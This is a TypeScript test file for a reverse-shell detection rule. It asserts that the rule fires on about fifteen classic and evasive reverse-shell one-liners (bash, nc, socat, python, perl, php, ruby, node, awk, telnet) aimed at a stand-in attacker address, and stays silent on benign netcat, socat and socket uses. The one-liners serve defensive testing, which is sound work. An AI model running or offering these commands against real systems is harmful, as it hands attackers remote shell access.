import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { reverseShell } from '../../../../../controlplane/src/detections/rules/reverse-shell';
import { CONTAINER_ID, execEvent } from '../../../../helpers/synthetic-events';
import { ruleContext } from '../../../../helpers/rule-context';

const run = (filename: string, argv: string[]) => reverseShell.match(execEvent({ filename, argv, containerId: CONTAINER_ID }), ruleContext());

describe('rule reverse-shell', () => {
  test('should trigger: the classic one-liners (pentestmonkey, PayloadsAllTheThings shapes)', () => {
    const cases: [string, string[]][] = [
      ['/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']],
      ['/bin/sh', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f']],
      ['/bin/nc', ['nc', '-e', '/bin/sh', '198.51.100.7', '4444']],
      ['/usr/bin/ncat', ['ncat', '198.51.100.7', '4444', '--sh-exec', '/bin/bash']],
      ['/usr/bin/socat', ['socat', 'tcp-connect:198.51.100.7:4444', 'exec:/bin/sh,pty,stderr,setsid,sigint,sane']],
      ['/usr/bin/python3', ['python3', '-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("/bin/sh")']],
      ['/usr/bin/perl', ['perl', '-e', 'use Socket;$i="198.51.100.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};']],
      ['/usr/bin/php', ['php', '-r', '$sock=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");']],
      ['/usr/bin/ruby', ['ruby', '-rsocket', '-e', 'f=TCPSocket.open("198.51.100.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)']],
      ['/usr/bin/node', ['node', '-e', 'require("child_process").exec("nc -e /bin/sh 198.51.100.7 4444"); var net = require("net")']],
      ['/usr/bin/awk', ['awk', 'BEGIN {s = "/inet/tcp/0/198.51.100.7/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}']],
      ['/bin/sh', ['sh', '-c', 'telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445']],
      // Evasions: a renamed python, busybox nc, a copied shell taking -c.
      ['/tmp/py', ['/tmp/py', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']],
      ['/bin/busybox', ['busybox', 'nc', '198.51.100.7', '4444', '-e', '/bin/sh']],
      ['/var/tmp/.k', ['/var/tmp/.k', '-c', 'exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5 | while read l; do $l 2>&5 >&5; done']],
    ];
    for (const [f, argv] of cases) assert.ok(run(f, argv), argv.join(' ').slice(0, 80));
  });

  test('should not trigger: netcat listening or probing, socat forwarding ports, python scripts with sockets but no shell', () => {
    const cases: [string, string[]][] = [
      ['/bin/nc', ['nc', '-z', '-v', 'db', '5432']],
      ['/bin/nc', ['nc', '-l', '-p', '8080']],
      ['/usr/bin/socat', ['socat', 'TCP-LISTEN:8080,fork', 'TCP:backend:80']],
      ['/usr/bin/python3', ['python3', '-c', 'import socket; socket.create_connection(("db", 5432)).close()']],
      ['/bin/sh', ['sh', '-c', 'curl -s http://localhost:8080/healthz']],
      ['/usr/bin/ncat', ['ncat', '--version']],
    ];
    for (const [f, argv] of cases) assert.equal(run(f, argv), null, argv.join(' '));
  });
});
